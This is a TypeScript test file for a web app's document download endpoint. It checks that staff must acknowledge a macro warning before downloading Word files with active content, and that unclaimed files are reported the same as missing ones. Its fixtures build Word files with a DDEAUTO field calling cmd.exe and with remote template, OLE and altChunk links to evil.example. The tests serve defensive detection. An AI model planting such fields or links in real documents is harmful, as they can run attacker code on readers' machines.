import { afterAll, beforeAll, expect, test } from 'vitest'
import { createTestApp, type TestApp } from '../app.ts'
import { compound, docx, type Entry, pdf } from '../files.ts'
import { attach, claim, uploadOne } from '../uploads.ts'
import type { Visitor } from '../visitor.ts'

// Which documents staff can open, and what they hear before they do.

let app: TestApp
let editor: Visitor
beforeAll(async () => {
  app = await createTestApp({ template: 'empty' })
  editor = await app.staff('editor')
})
afterAll(() => app.close())

/** A Word document whose text refers to something outside of it, of that relationship type. */
function referring(type: string, target: string, body = ''): Buffer {
  const relationships: Entry = {
    name: 'word/_rels/document.xml.rels',
    data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  }
  return docx([relationships, { name: 'word/body.xml', data: body }])
}

// `Macros` stands behind 64 sectors of four names each.
const deep = ['WordDocument', ...Array.from({ length: 300 }, (_, n) => `x${n}`), 'Macros']

const ACTIVE: [string, string, () => Buffer][] = [
  ['a folder Macros behind the 64th sector', 'a.doc', () => compound(deep)],
  ['a remote template', 'a.docx', () => referring('attachedTemplate', 'https://evil.example/a.dotm')],
  [
    'DDE',
    'a.docx',
    () =>
      docx([
        {
          name: 'word/dde.xml',
          data: '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>',
        },
      ]),
  ],
  ['an external OLE object', 'a.docx', () => referring('oleObject', 'https://evil.example/a.rtf')],
  [
    'another document inside (altChunk)',
    'a.docx',
    () => referring('aFChunk', 'https://evil.example/a.docm', '<w:altChunk r:id="r1"/>'),
  ],
]

test.each(ACTIVE)(
  'M8: staff get a Word document with %s only after they acknowledge the warning',
  async (_, name, bytes) => {
    const file = bytes()
    const { id } = await uploadOne(app.visitor(), file, name)
    await attach(app.database.db, id)
    const path = `/api/media/${id}/download`
    for (const asked of [path, `${path}?acknowledged=`, `${path}?acknowledged=no`]) {
      const answer = await editor.send(asked)
      expect([asked, answer.status >= 400 && answer.status < 500]).toEqual([asked, true])
      expect((await answer.json()).message).not.toBe('')
    }
    const refusal = await (await editor.send(path)).json()
    expect(refusal).toMatchObject({
      code: 'conflict',
      message: 'Documento di Office: può contenere macro. Aprilo solo in visualizzazione protetta.',
    })
    const answer = await editor.send(`${path}?acknowledged=macros`)
    expect(answer.status).toBe(200)
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment;/)
    expect(Buffer.from(await answer.arrayBuffer()).equals(file)).toBe(true)
  },
)

test('M8: a PDF or a picture asks for no acknowledgement', async () => {
  const { id } = await uploadOne(app.visitor())
  await attach(app.database.db, id)
  expect((await editor.send(`/api/media/${id}/download`)).status).toBe(200)
})

test('N3: staff get the same answer for an unclaimed document as for a missing one', async () => {
  const visitor = app.visitor()
  const { id } = await uploadOne(visitor, pdf(0, 'waiting'))
  const told = async (path: string, who: Visitor) => {
    const answer = await who.send(path)
    return [answer.status, await answer.text()]
  }
  for (const who of [editor, await app.staff('admin')]) {
    for (const rest of ['/download', '/download?acknowledged=macros', '']) {
      expect(await told(`/api/media/${id}${rest}`, who)).toEqual(await told(`/api/media/999999${rest}`, who))
    }
  }
  expect(await claim(app, visitor, [id])).toBe(true)
  // Claimed, but neither a contact nor a visit names it.
  expect((await editor.send(`/api/media/${id}/download`)).status).toBe(404)
  await attach(app.database.db, id)
  expect((await editor.send(`/api/media/${id}/download`)).status).toBe(200)
})
